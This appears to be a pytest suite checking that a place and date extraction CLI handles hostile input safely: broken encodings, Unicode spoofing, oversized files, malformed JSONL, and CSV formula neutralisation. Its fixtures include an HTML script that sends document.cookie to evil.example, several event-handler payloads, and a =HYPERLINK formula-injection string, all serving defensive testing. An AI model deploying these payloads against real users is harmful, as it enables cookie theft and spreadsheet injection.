"""Bad and hostile input through the real CLI (issue 7): each case is processed with
the expected places, or fails alone with an error naming the file and the reason.

Offsets always refer to the text as given (decoded, without a BOM); for HTML to the
reduced article text, which the document carries as ``text``.
"""
import csv
import gzip
import io
import json
import random
import re
from dataclasses import dataclass, field

import pytest

from extract import cli as cli_module
from records import documents, inputs as textio
from extract.cli import run

DATE = "2023-10-13"
GOOD = "Die Delegation reiste am Freitag nach Wien."


def cli(argv):
    out = io.StringIO()
    code = run(argv, out)
    return code, out.getvalue()


@dataclass
class Ok:
    """Processed: these place names found (canonical), these not; timex values never seen."""
    places: frozenset = frozenset()
    absent: frozenset = frozenset()
    texts: dict = field(default_factory=dict)       # canonical name -> exact mention text
    no_values: frozenset = frozenset()
    values: frozenset = frozenset()


@dataclass
class Err:
    """Refused: the error names the document and contains ``reason``."""
    reason: str


def _check_document(doc: dict, text: str, want: Ok) -> None:
    names = {p["name"] for p in doc["places"]}
    assert want.places <= names, names
    assert not (want.absent & names), names
    for p in doc["places"]:
        assert text[p["start"]:p["end"]] == p["text"]
        assert -90 <= p["lat"] <= 90 and -180 <= p["lon"] <= 180
    for name, surface in want.texts.items():
        assert surface in {p["text"] for p in doc["places"] if p["name"] == name}
    for t in doc["timexes"]:
        assert text[t["start"]:t["end"]] == t["text"]
    values = {t["value"] for t in doc["timexes"]}
    assert not (want.no_values & values) and want.values <= values, values
    for ev in doc["events"]:
        assert 0 <= ev["start"] <= ev["end"] <= len(text)


def _u16(s: str, enc: str) -> bytes:
    return s.encode(enc)


HOSTILE_HTML = """<!doctype html><html><head><title>Bericht</title>
<script>document.write('Berlin'); fetch('http://evil.example/?c=' + document.cookie)</script>
<style>p::after { content: "Paris" }</style></head>
<body onload="alert('Madrid')"><nav>Startseite London</nav>
<iframe src="http://evil.example/frame">Rom</iframe>
<article><p onclick="alert(1)">Die Delegation reiste nach <b onmouseover="steal()">Wien</b>.</p>
<img src=x onerror="alert('Oslo')"><p>Danach ging es <a href="javascript:alert('Kairo')">weiter</a> nach Prag.</p>
<form><input value="Lissabon"><button>Athen</button></form><noscript>Dublin</noscript>
<template><p>Helsinki</p></template><svg><text>Tokio</text></svg><!-- Stockholm --></article>
</body></html>"""

# (file name, bytes, the text the offsets refer to or None for HTML, expected)
FILE_CASES = [
    # -- empty and not text
    pytest.param("empty.txt", b"", None, Err("empty"), id="empty-file"),
    pytest.param("blank.txt", b"  \n\t\r\n  ", None, Err("empty"), id="whitespace-only"),
    pytest.param("bom-only.txt", b"\xef\xbb\xbf\n", None, Err("empty"), id="utf8-bom-only"),
    pytest.param("invisible.txt", "\u200b\u200d\u2060\u202e \n".encode(), None, Err("empty"),
                 id="only-invisible-characters"),
    pytest.param("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), None,
                 Err("binary"), id="png-bytes"),
    pytest.param("archive.txt", gzip.compress(GOOD.encode() * 50), None, Err("binary"), id="gzip-bytes"),
    pytest.param("noise.txt", random.Random(7).randbytes(4000).replace(b"\x00", b"\x01"), None,
                 Err("not text"), id="random-bytes-without-nul"),
    pytest.param("controls.txt", ("Wien \x01\x02\x03\x04\x05\x06\x07\x08" * 40).encode(), None,
                 Err("binary"), id="utf8-full-of-control-characters"),
    pytest.param("nul.txt", GOOD.encode() + b"\x00" + GOOD.encode(), None, Err("binary"), id="nul-byte-in-text"),
    pytest.param("bad-bom.txt", b"\xff\xfe" + b"\x00\xd8", None, Err("byte-order mark"),
                 id="utf16-bom-with-broken-body"),
    # -- encodings and BOMs
    pytest.param("bom8.txt", b"\xef\xbb\xbf" + GOOD.encode(), GOOD, Ok({"Vienna"}), id="utf8-bom"),
    pytest.param("bom16le.txt", b"\xff\xfe" + _u16(GOOD, "utf-16-le"), GOOD, Ok({"Vienna"}), id="utf16le-bom"),
    pytest.param("bom16be.txt", b"\xfe\xff" + _u16(GOOD, "utf-16-be"), GOOD, Ok({"Vienna"}), id="utf16be-bom"),
    pytest.param("bom32.txt", GOOD.encode("utf-32"), GOOD, Ok({"Vienna"}), id="utf32-bom"),
    pytest.param("nobom16.txt", _u16("Die Minister trafen sich in Düsseldorf und Wien.", "utf-16-le"),
                 "Die Minister trafen sich in Düsseldorf und Wien.", Ok({"Vienna"}), id="utf16le-without-bom"),
    pytest.param("cp1252.txt", "„Die Reise nach Köln kostet 5 €“, sagte er in Düsseldorf.".encode("cp1252"),
                 "„Die Reise nach Köln kostet 5 €“, sagte er in Düsseldorf.", Ok({"Köln", "Düsseldorf"}),
                 id="cp1252-quotes-euro-umlauts"),
    pytest.param("latin1.txt", "Die Delegation traf sich in Düsseldorf und Lübeck.".encode("latin-1"),
                 "Die Delegation traf sich in Düsseldorf und Lübeck.", Ok({"Düsseldorf", "Lübeck"}), id="latin1"),
    pytest.param("crlf.txt", b"Erste Zeile.\r\nDie Delegation reiste nach Wien.\r\n",
                 "Erste Zeile.\r\nDie Delegation reiste nach Wien.\r\n", Ok({"Vienna"}), id="crlf-line-ends-kept"),
    pytest.param("cr.txt", b"Erste Zeile.\rDie Delegation reiste nach Wien.\r",
                 "Erste Zeile.\rDie Delegation reiste nach Wien.\r", Ok({"Vienna"}), id="old-mac-cr-line-ends"),
    # -- Unicode tricks: found, and the mention is the text as given
    pytest.param("zw.txt", "Die Delegation reiste nach Mos\u200bkau.".encode(),
                 "Die Delegation reiste nach Mos\u200bkau.", Ok({"Moscow"}, texts={"Moscow": "Mos\u200bkau"}),
                 id="zero-width-space-inside-name"),
    pytest.param("shy.txt", "Die Delegation reiste nach Ber\u00adlin.".encode(),
                 "Die Delegation reiste nach Ber\u00adlin.", Ok({"Berlin"}), id="soft-hyphen-inside-name"),
    pytest.param("wj.txt", "Kim reiste nach Pjöng\u2060jang und \ufeffMos\u200dkau.".encode(),
                 "Kim reiste nach Pjöng\u2060jang und \ufeffMos\u200dkau.", Ok({"Pyongyang", "Moscow"}),
                 id="word-joiner-zwj-and-inner-bom"),
    pytest.param("rlo.txt", "Die Delegation reiste nach \u202eWien\u202c.".encode(),
                 "Die Delegation reiste nach \u202eWien\u202c.", Ok({"Vienna"}, texts={"Vienna": "Wien"}),
                 id="rtl-override-around-name"),
    pytest.param("trojan.txt", "Die Delegation reiste nach \u202eneiW\u202c.".encode(),
                 "Die Delegation reiste nach \u202eneiW\u202c.", Ok(absent={"Vienna"}),
                 id="rtl-override-displays-a-name-it-is-not"),
    pytest.param("nfd.txt", "Die Delegation reiste nach Mu\u0308nchen.".encode(),
                 "Die Delegation reiste nach Mu\u0308nchen.", Ok({"Munich"}, texts={"Munich": "Mu\u0308nchen"}),
                 id="combining-diaeresis"),
    pytest.param("zalgo.txt", "Die Delegation reiste nach M\u0334o\u0335s\u0336k\u0337a\u0338u\u0489.".encode(),
                 "Die Delegation reiste nach M\u0334o\u0335s\u0336k\u0337a\u0338u\u0489.", Ok({"Moscow"}),
                 id="zalgo-marks"),
    pytest.param("homoglyph.txt", "Die Delegation reiste nach Mosk\u0430u.".encode(),
                 "Die Delegation reiste nach Mosk\u0430u.", Ok({"Moscow"}, texts={"Moscow": "Mosk\u0430u"}),
                 id="cyrillic-a-inside-latin-name"),
    pytest.param("greek.txt", "Die Delegation reiste nach \u0392erlin.".encode(),
                 "Die Delegation reiste nach \u0392erlin.", Ok({"Berlin"}), id="greek-capital-beta-in-name"),
    pytest.param("fullwidth.txt", "Die Delegation reiste nach \uff22\uff45\uff52\uff4c\uff49\uff4e.".encode(),
                 "Die Delegation reiste nach \uff22\uff45\uff52\uff4c\uff49\uff4e.", Ok({"Berlin"}),
                 id="fullwidth-letters"),
    pytest.param("nbsp.txt", "Die Delegation reiste am\u00a03.\u00a0Oktober\u00a02023 nach\u00a0Wien.".encode(),
                 "Die Delegation reiste am\u00a03.\u00a0Oktober\u00a02023 nach\u00a0Wien.",
                 Ok({"Vienna"}, values={"2023-10-03"}), id="no-break-spaces"),
    pytest.param("emoji.txt", "\U0001F1F7\U0001F1FA Die Delegation \U0001F680 reiste nach Moskau.".encode(),
                 "\U0001F1F7\U0001F1FA Die Delegation \U0001F680 reiste nach Moskau.", Ok({"Moscow"}),
                 id="astral-emoji-before-name"),
    # -- impossible dates are no dates
    pytest.param("feb30.txt", "Am 30. Februar 2023 reiste die Delegation nach Wien.".encode(),
                 "Am 30. Februar 2023 reiste die Delegation nach Wien.",
                 Ok({"Vienna"}, no_values={"2023-02-30"}), id="30-februar"),
    pytest.param("feb29.txt", "On 29 February 2023 the delegation travelled to Vienna.".encode(),
                 "On 29 February 2023 the delegation travelled to Vienna.",
                 Ok({"Vienna"}, no_values={"2023-02-29"}), id="29-february-not-a-leap-year"),
    pytest.param("month13.txt", "Am 2023-13-45 reiste die Delegation nach Wien.".encode(),
                 "Am 2023-13-45 reiste die Delegation nach Wien.", Ok({"Vienna"}, no_values={"2023-13-45"}),
                 id="iso-date-month-13"),
    # -- long lines, long tokens, pathological punctuation
    pytest.param("longline.txt", ("Wien " + "und so weiter " * 40_000 + "Moskau").encode(),
                 "Wien " + "und so weiter " * 40_000 + "Moskau", Ok({"Vienna", "Moscow"}),
                 id="half-megabyte-line"),
    pytest.param("longtoken.txt", ("Die Delegation reiste nach Wien. " + "x" * 500_000 + " Dann nach Moskau.").encode(),
                 "Die Delegation reiste nach Wien. " + "x" * 500_000 + " Dann nach Moskau.",
                 Ok({"Vienna", "Moscow"}), id="half-million-char-token"),
    pytest.param("parens.txt", ("(" * 50_000 + "Die Delegation reiste nach Wien." + ")" * 50_000).encode(),
                 "(" * 50_000 + "Die Delegation reiste nach Wien." + ")" * 50_000, Ok({"Vienna"}),
                 id="fifty-thousand-parentheses"),
    pytest.param("dots.txt", ("." * 100_000 + " Wien").encode(), "." * 100_000 + " Wien", Ok({"Vienna"}),
                 id="hundred-thousand-dots"),
    pytest.param("marks.txt", ("Wien " + "a" + "\u0301" * 100_000).encode(), "Wien " + "a" + "\u0301" * 100_000,
                 Ok({"Vienna"}), id="hundred-thousand-combining-marks"),
    pytest.param("digits.txt", ("1" * 200_000 + " Wien").encode(), "1" * 200_000 + " Wien", Ok({"Vienna"}),
                 id="two-hundred-thousand-digits"),
    # -- HTML: text extracted, nothing executed or rendered
    pytest.param("page.html", HOSTILE_HTML.encode(), None,
                 Ok({"Vienna", "Prague"}, absent={"Berlin", "Paris", "Madrid", "London", "Rome", "Oslo", "Cairo",
                                                  "Lisbon", "Athens", "Dublin", "Helsinki", "Tokyo", "Stockholm"}),
                 id="html-script-iframe-handlers"),
    pytest.param("scripts.html", b"<html><body><script>var Wien = 1;</script><iframe>Prag</iframe></body></html>",
                 None, Err("no text"), id="html-without-article-text"),
    pytest.param("disguised.txt", b"<!DOCTYPE html><html><body><p>Die Delegation reiste nach Wien.</p>"
                                  b"<script>alert('Berlin')</script></body></html>",
                 None, Ok({"Vienna"}, absent={"Berlin"}), id="html-in-a-txt-file"),
    pytest.param("entities.html", b"<html><body><p>Die Delegation reiste nach Mos&#8203;kau und &#x202E;Wien&#x202C;."
                                  b" &lt;script&gt;alert(1)&lt;/script&gt;</p></body></html>",
                 None, Ok({"Moscow", "Vienna"}), id="html-entities-for-invisibles"),
    pytest.param("cp1252.html", "<html><head><meta charset='windows-1252'></head><body><p>Die Delegation reiste "
                                "nach Köln.</p></body></html>".encode("cp1252"),
                 None, Ok({"Köln"}), id="html-in-cp1252"),
]


@pytest.mark.parametrize("name, data, text, want", FILE_CASES)
def test_hostile_file(tmp_path, name, data, text, want):
    path = tmp_path / name
    path.write_bytes(data)
    good = tmp_path / "good.txt"
    good.write_text(GOOD, encoding="utf-8")
    code, out = cli([str(path), str(good), "--doc-date", DATE])
    result = json.loads(out)
    docs = {d["id"]: d for d in result["documents"]}
    assert str(good) in docs, "a bad file must not cost the others"
    if isinstance(want, Err):
        assert code == 1 and str(path) not in docs
        (error,) = result["errors"]
        assert error["id"] == str(path) and str(path) in error["error"] and want.reason in error["error"]
        assert "\n" not in error["error"]
        return
    assert code == 0, result["errors"]
    doc = docs[str(path)]
    if text is None:  # HTML: offsets refer to the reduced article text, which is printed
        text = doc["text"]
        assert not any(code in text for code in ("document.", "onerror", "onclick", "steal()", "fetch("))
    _check_document(doc, text, want)


def _line(obj) -> str:
    return obj if isinstance(obj, str) else json.dumps(obj, ensure_ascii=False)


TEXT = "Die Delegation reiste nach Moskau."
# (the JSONL line, expected); the case's line sits between two good documents
JSONL_CASES = [
    pytest.param("{not json", Err("invalid JSON"), id="not-json"),
    pytest.param("[1, 2, 3]", Err("not a JSON object but list"), id="array"),
    pytest.param('"Moskau"', Err("not a JSON object but str"), id="string"),
    pytest.param("null", Err("not a JSON object but NoneType"), id="null"),
    pytest.param("42", Err("not a JSON object but int"), id="number"),
    pytest.param({"id": "x"}, Err("missing 'text'"), id="missing-text"),
    pytest.param({"id": "x", "text": None}, Err("missing 'text'"), id="text-null"),
    pytest.param({"id": "x", "text": "   \n"}, Err("empty document"), id="text-blank"),
    pytest.param({"id": "x", "text": 12345}, Err("text must be a string, not int"), id="text-number"),
    pytest.param({"id": "x", "text": ["Moskau"]}, Err("text must be a string, not list"), id="text-list"),
    pytest.param({"id": 42, "text": TEXT}, Err("id must be a string, not int 42"), id="id-number"),
    pytest.param({"id": "", "text": TEXT}, Err("id is empty"), id="id-empty"),
    pytest.param({"id": "x", "text": TEXT, "doc_date": "2023-02-30"}, Err("impossible date '2023-02-30'"),
                 id="doc-date-30-february"),
    pytest.param({"id": "x", "text": TEXT, "doc_date": "13.10.2023"}, Err("bad date '13.10.2023'"),
                 id="doc-date-german-format"),
    pytest.param({"id": "x", "text": TEXT, "doc_date": 20231013}, Err("date must be a string"),
                 id="doc-date-number"),
    pytest.param('{"id": "x", "text": "Moskau", "doc_date": NaN}', Err("date must be a string"),
                 id="doc-date-nan"),
    pytest.param({"id": "x", "text": TEXT, "lang": "fr"}, Err("lang must be 'de' or 'en'"), id="lang-unknown"),
    pytest.param({"id": "x", "text": TEXT, "title": {"a": 1}}, Err("title must be a string, not dict"),
                 id="title-object"),
    pytest.param("[" * 100_000 + "]" * 100_000, Err("invalid JSON"), id="nested-100000-deep"),
    pytest.param(json.dumps({"id": "x", "text": "Die Delegation reiste nach Mos\ud800kau und Wien."}), Ok({"Vienna"}),
                 id="lone-surrogate-in-text"),
    pytest.param({"id": "x", "text": "Die Delegation reiste nach Mos\u200bkau."},
                 Ok({"Moscow"}, texts={"Moscow": "Mos\u200bkau"}), id="zero-width-offsets-in-jsonl"),
    pytest.param({"id": "x", "text": TEXT, "doc_date": "2999-01-01"}, Ok({"Moscow"}), id="doc-date-future"),
    pytest.param({"id": "x", "text": "Nächsten Freitag reist er nach Moskau.", "doc_date": "9999-12-31"},
                 Err("outside 1000-01-01..8999-12-31"), id="doc-date-9999-12-31"),
    pytest.param({"id": "x", "text": "Am Freitag reiste er nach Moskau.", "doc_date": "0001-01-01"},
                 Err("outside 1000-01-01..8999-12-31"), id="doc-date-0001-01-01"),
    pytest.param({"id": "x", "text": "Am Freitag reiste er nach Moskau.", "doc_date": "1000-01-01"},
                 Ok({"Moscow"}), id="doc-date-year-1000"),
    pytest.param({"id": "x", "text": TEXT, "doc_date": "2023-10-13T08:00:00+02:00"}, Ok({"Moscow"}),
                 id="doc-date-with-time"),
    pytest.param({"id": "x", "text": "Wien " + "Lorem ipsum dolor sit amet. " * 60_000 + "Moskau"},
                 Ok({"Vienna", "Moscow"}), id="huge-json-line-1.7mb"),
    pytest.param({"id": "good-1", "text": TEXT}, Err("duplicate id 'good-1'"), id="duplicate-id"),
]


@pytest.mark.parametrize("line, want", JSONL_CASES)
def test_hostile_jsonl_line(tmp_path, line, want):
    path = tmp_path / "in.jsonl"
    lines = [_line({"id": "good-1", "text": GOOD, "doc_date": DATE}), _line(line),
             _line({"id": "good-2", "text": "The minister visited Kyiv.", "lang": "en"})]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogatepass")
    code, out = cli(["--jsonl", str(path)])
    result = json.loads(out)
    docs = {d["id"]: d for d in result["documents"]}
    assert {"good-1", "good-2"} <= set(docs), "the other documents are processed"
    if isinstance(want, Err):
        assert code == 1 and len(result["errors"]) == 1, result["errors"]
        error = result["errors"][0]["error"]
        assert f"{path}:2" in error and want.reason in error, error
        return
    assert code == 0, result["errors"]
    text = json.loads(lines[1])["text"]
    text = re.sub("[\ud800-\udfff]", "\ufffd", text)  # lone surrogates become U+FFFD, same length
    _check_document(docs["x"], text, want)
    json.dumps(result, ensure_ascii=False).encode("utf-8")  # the output is valid UTF-8


# -- whole-file JSONL defects ---------------------------------------------------------------

def test_jsonl_not_utf8_is_read_as_cp1252(tmp_path, caplog):
    path = tmp_path / "legacy.jsonl"
    path.write_bytes(json.dumps({"id": "k", "text": "Die Delegation reiste nach Köln."},
                                ensure_ascii=False).encode("cp1252") + b"\n")
    code, out = cli(["--jsonl", str(path), "--doc-date", DATE])
    assert code == 0 and {p["text"] for p in json.loads(out)["documents"][0]["places"]} == {"Köln"}
    assert "not UTF-8" in caplog.text


def test_jsonl_line_over_the_limit_is_skipped_and_reported(tmp_path, monkeypatch):
    monkeypatch.setattr(documents, "MAX_LINE_BYTES", 1000)
    path = tmp_path / "big.jsonl"
    path.write_text(_line({"id": "a", "text": "x" * 5000}) + "\n" + _line({"id": "b", "text": TEXT}) + "\n",
                    encoding="utf-8")
    code, out = cli(["--jsonl", str(path), "--doc-date", DATE])
    result = json.loads(out)
    assert code == 1 and [d["id"] for d in result["documents"]] == ["b"]
    assert result["errors"][0]["id"] == f"{path}:1" and "longer than" in result["errors"][0]["error"]


def test_utf16_jsonl_is_refused_by_name(tmp_path):
    path = tmp_path / "wide.jsonl"
    path.write_bytes(_line({"id": "a", "text": TEXT}).encode("utf-16"))
    code, out = cli(["--jsonl", str(path)])
    assert code == 1 and "UTF-16" in json.loads(out)["errors"][0]["error"]


def test_missing_file_and_directory_are_reported(tmp_path):
    code, out = cli([str(tmp_path / "nope.txt"), str(tmp_path), "--doc-date", DATE])
    errors = {e["id"]: e["error"] for e in json.loads(out)["errors"]}
    assert code == 1 and "cannot read" in errors[str(tmp_path / "nope.txt")] and "cannot read" in errors[str(tmp_path)]


def test_oversized_file_is_refused_before_reading(tmp_path, monkeypatch):
    monkeypatch.setattr(textio, "MAX_INPUT_BYTES", 100)
    path = tmp_path / "big.txt"
    path.write_text(GOOD * 10, encoding="utf-8")
    code, out = cli([str(path)])
    assert code == 1 and "too large" in json.loads(out)["errors"][0]["error"]


# -- duplicates and dates ---------------------------------------------------------------------

def test_the_same_file_twice_is_one_document_and_one_error(tmp_path):
    path = tmp_path / "a.txt"
    path.write_text(GOOD, encoding="utf-8")
    code, out = cli([str(path), str(path), "--doc-date", DATE])
    result = json.loads(out)
    assert code == 1 and len(result["documents"]) == 1 and "duplicate id" in result["errors"][0]["error"]


def test_the_same_text_under_two_names_is_processed_twice_with_a_note(tmp_path, capsys):
    a, b = tmp_path / "a.txt", tmp_path / "a (1).txt"
    a.write_text(GOOD, encoding="utf-8")
    b.write_text(GOOD, encoding="utf-8")
    code, out = cli([str(a), str(b), "--doc-date", DATE])
    docs = json.loads(out)["documents"]
    assert code == 0 and [d["id"] for d in docs] == [str(a), str(b)]
    assert docs[0]["places"] == docs[1]["places"]
    assert "same text" in capsys.readouterr().err


def test_future_publication_date_is_used_with_a_warning(tmp_path, capsys):
    path = tmp_path / "future.html"
    path.write_text("<html><head><meta property='article:published_time' content='2999-05-01'></head>"
                    "<body><p>Die Delegation reiste am Freitag nach Wien.</p></body></html>", encoding="utf-8")
    code, out = cli([str(path)])
    doc = json.loads(out)["documents"][0]
    assert code == 0 and doc["doc_date"] == "2999-05-01" and doc["doc_date_source"] == "document"
    assert "future" in capsys.readouterr().err


@pytest.mark.parametrize("bad", ["2023-02-30", "2023-13-01", "gestern", "99999-01-01", "0001-01-01"])
def test_impossible_doc_date_argument_is_a_usage_error(bad, capsys):
    assert cli_module.main(["--doc-date", bad, "x.txt"]) == 2
    assert capsys.readouterr().out == ""


def test_standard_input_with_bom_and_invisibles(monkeypatch):
    data = "\ufeffDie Delegation reiste nach Mos\u200bkau.".encode("utf-8")
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(data), encoding="utf-8"))
    code, out = cli(["-", "--doc-date", DATE])
    doc = json.loads(out)["documents"][0]
    text = "Die Delegation reiste nach Mos\u200bkau."
    assert code == 0 and [(p["name"], text[p["start"]:p["end"]]) for p in doc["places"]] == [("Moscow", "Mos\u200bkau")]


def test_a_crash_inside_the_pipeline_costs_only_that_document(tmp_path, monkeypatch, capsys):
    from extract.pipeline import get_pipeline

    pipeline = get_pipeline()
    real = pipeline.process

    def flaky(text, **kw):
        if "BOOM" in text:
            raise IndexError("hostile input")
        return real(text, **kw)

    monkeypatch.setattr(pipeline, "process", flaky)
    bad, good = tmp_path / "bad.txt", tmp_path / "good.txt"
    bad.write_text("BOOM in Wien", encoding="utf-8")
    good.write_text(GOOD, encoding="utf-8")
    code, out = cli([str(bad), str(good), "--doc-date", DATE])
    result = json.loads(out)
    assert code == 1 and [d["id"] for d in result["documents"]] == [str(good)]
    assert "internal error (IndexError: hostile input)" in result["errors"][0]["error"]
    assert "Traceback" in capsys.readouterr().err


# -- a 20 MB text without newlines ---------------------------------------------------------------

def test_twenty_megabytes_without_newlines_in_bounded_time(tmp_path, capsys):
    """Long tokens and a few sentences, no line end: processed in pieces, progress on
    stderr, offsets right across the piece boundaries."""
    sentence = "Die Delegation reiste am 3. Oktober 2023 nach Wien und Moskau. "
    block = sentence + "x" * 400_000 + " " + "(" * 30_000 + " " + "y" * 570_000 + " "
    text = (block * 20)[:20_000_000] + " Ende in Prag."
    path = tmp_path / "huge.txt"
    path.write_text(text, encoding="utf-8")
    code, out = cli([str(path), "--doc-date", DATE])
    assert code == 0
    doc = json.loads(out)["documents"][0]
    names = [p["name"] for p in doc["places"]]
    assert names.count("Vienna") == 20 and names.count("Moscow") == 20 and "Prague" in names
    for item in doc["places"] + doc["timexes"]:
        assert text[item["start"]:item["end"]] == item["text"]
    assert sum(t["value"] == "2023-10-03" for t in doc["timexes"]) == 20
    err = capsys.readouterr().err
    assert "processed in pieces" in err and "100% of" in err


# -- output safety --------------------------------------------------------------------------------

HOSTILE_ARTICLE = ('=HYPERLINK("http://evil.example/?x="&A1,"Klick") Russland lieferte am 3. Oktober 2023 '
                   "Munition per Schiff von Wladiwostok nach Pjöngjang.\n"
                   "@SUM(1+1) Am 5. Oktober 2023 trafen sich Kim und Putin in Moskau.\n")


def test_csv_neutralises_formulas_from_hostile_text(tmp_path):
    path = tmp_path / "evil.txt"
    path.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    code, out = cli([str(path), "--doc-date", DATE, "--format", "csv"])
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows, "the hostile article still yields events"
    evidence = [r["evidence"] for r in rows]
    assert any(e.startswith("'=HYPERLINK(") for e in evidence), evidence
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or _is_number(cell), row


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_geojson_is_rfc7946_lon_lat(tmp_path):
    path = tmp_path / "evil.txt"
    path.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    code, out = cli([str(path), "--doc-date", DATE, "--format", "geojson"])
    assert code == 0
    fc = json.loads(out)
    assert fc["type"] == "FeatureCollection" and fc["features"]
    kinds = set()
    for f in fc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if g is None:
            continue
        kinds.add(g["type"])
        coords = [g["coordinates"]] if g["type"] == "Point" else g["coordinates"]
        assert g["type"] in ("Point", "LineString") and (g["type"] == "Point" or len(coords) >= 2)
        for lon, lat in coords:
            assert -180 <= lon <= 180 and -90 <= lat <= 90
    shipment = next(f for f in fc["features"] if f["properties"]["type"] == "shipment")
    (lon1, lat1), (lon2, lat2) = shipment["geometry"]["coordinates"][0], shipment["geometry"]["coordinates"][-1]
    # Vladivostok (131.9 E, 43.1 N) -> Pyongyang (125.8 E, 39.0 N): longitude first
    assert lon1 > 100 and 30 < lat1 < 50 and lon2 > 100 and 30 < lat2 < 50
    assert "LineString" in kinds


# -- publication dates next to the calendar's limits -------------------------------------------

@pytest.mark.parametrize("doc_date, text", [("0001-01-01", "Freitag"), ("9999-12-31", "nächsten Freitag")])
def test_weekday_next_to_the_calendar_limits(doc_date, text):
    import datetime as dt

    from extract.dates.tagger import tag_timexes

    # a value beyond year 1..9999 is not made up: the expression is left untagged
    assert tag_timexes(text, dt.date.fromisoformat(doc_date), "de") == []
